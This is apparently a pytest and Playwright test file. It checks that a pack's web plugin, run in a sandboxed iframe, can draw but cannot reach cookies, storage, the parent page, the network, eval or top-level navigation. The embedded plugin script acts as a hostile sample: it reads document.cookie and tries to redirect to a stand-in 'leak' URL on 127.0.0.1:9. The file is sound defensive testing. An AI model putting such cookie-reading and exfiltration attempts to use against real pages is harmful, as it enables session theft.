"""A plugin of a pack in a real browser: it draws, and has no cookie, no network, no storage and no way to the page around it."""

import asyncio
import json
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio
from playwright.async_api import Browser
from tests.planes.http_testbed import Testbed
from tests.planes.packs_testbed import pack_files

from croupier.asgi.server import HttpServer
from croupier.domain.principal import Principal
from croupier.packs.tar import write_archive

pytestmark = pytest.mark.asyncio(loop_scope="session")

ROOT = Principal(name="token", kind="token", root=True)

PLUGIN = """
import { word } from "./lib/word.mjs";

async function outcome(work) {
  try {
    return String(await work());
  } catch (error) {
    return `refused: ${error.name}`;
  }
}

addEventListener("message", async ({ data }) => {
  document.body.style.color = "red";
  parent.postMessage({
    drawn: `${word} ${data.value}`,
    color: getComputedStyle(document.body).color,
    origin: self.origin,
    cookie: await outcome(() => document.cookie),
    storage: await outcome(() => localStorage.length),
    around: await outcome(() => parent.document.title),
    network: await outcome(() => fetch("/api/login/methods")),
    picture: await outcome(() => new Promise((load, fail) => {
      const picture = new Image();
      picture.onload = () => load("loaded");
      picture.onerror = () => fail(new DOMException("", "NotLoaded"));
      picture.src = "/favicon.svg";
    })),
    code: await outcome(() => new Function("return 1")()),
    element: await outcome(() => new Promise((load) => {
      window.ran = "did not run";
      const element = document.createElement("script");
      element.textContent = "window.ran = 'ran'";
      document.head.append(element);
      load(window.ran);
    })),
    top: await outcome(() => { top.location.href = "/elsewhere"; return "left"; }),
    popup: await outcome(() => window.open("/elsewhere")),
  }, "*");
  location.href = `${origin_of_nobody}/leak?${word}`;
});
const origin_of_nobody = "http://127.0.0.1:9";
parent.postMessage("ready", "*");
"""

PAGE = """
const frame = document.createElement("iframe");
frame.setAttribute("sandbox", "allow-scripts");
frame.src = new URLSearchParams(location.search).get("frame");
addEventListener("message", ({ data, source }) => {
  if (source !== frame.contentWindow) return;
  if (data === "ready") frame.contentWindow.postMessage({ value: 7 }, "*");
  else document.body.dataset.told = JSON.stringify(data);
});
document.body.append(frame);
"""


@pytest_asyncio.fixture(loop_scope="session")
async def address(tmp_path: Path) -> AsyncIterator[str]:
    (tmp_path / "assets").mkdir()
    (tmp_path / "assets" / "page-B1cD2eF3.js").write_text(PAGE)
    (tmp_path / "favicon.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"/>')
    (tmp_path / "index.html").write_text(
        '<!doctype html><html><head></head><body><script type="module" src="/assets/page-B1cD2eF3.js"></script></body></html>'
    )
    bed = Testbed(page=tmp_path)
    files = pack_files("shop", web_plugins=["web-plugin/map.js"])
    script = {"web-plugin/map.js": PLUGIN.encode(), "web-plugin/lib/word.mjs": b"export const word = 'drawn of';"}
    await bed.packs.take(ROOT, write_archive({**files, **script}))
    server = HttpServer(bed.app)
    await server.start("127.0.0.1:0")
    reply = await bed.request("GET", "/api/plugins")
    yield f"http://{server.address}/view?frame={reply.json['plugins'][0]['frame']}"
    await server.stop()


async def test_a_plugin_draws_what_it_is_given_and_reaches_nothing_else(chromium: Browser, address: str) -> None:
    context = await chromium.new_context()
    await context.add_cookies([{"name": "croupier_session", "value": "secret", "url": address}])
    page = await context.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    refused = page.wait_for_event("console", lambda said: "frame-src" in said.text)
    try:
        leaving = asyncio.ensure_future(refused)
        await page.goto(address)
        body = await page.wait_for_selector("body[data-told]", state="attached")
        assert body is not None
        told = json.loads(await body.get_attribute("data-told") or "")
        await leaving
        assert page.url == address
        assert not [url for url in asked if "leak" in url]
        assert len(context.pages) == 1
    finally:
        await context.close()
    assert told == {
        "drawn": "drawn of 7",
        "color": "rgb(255, 0, 0)",
        "origin": "null",
        "cookie": "refused: SecurityError",
        "storage": "refused: SecurityError",
        "around": "refused: SecurityError",
        "network": "refused: TypeError",
        "picture": "refused: NotLoaded",
        "code": "refused: EvalError",
        "element": "did not run",
        "top": "refused: SecurityError",
        "popup": "null",
    }
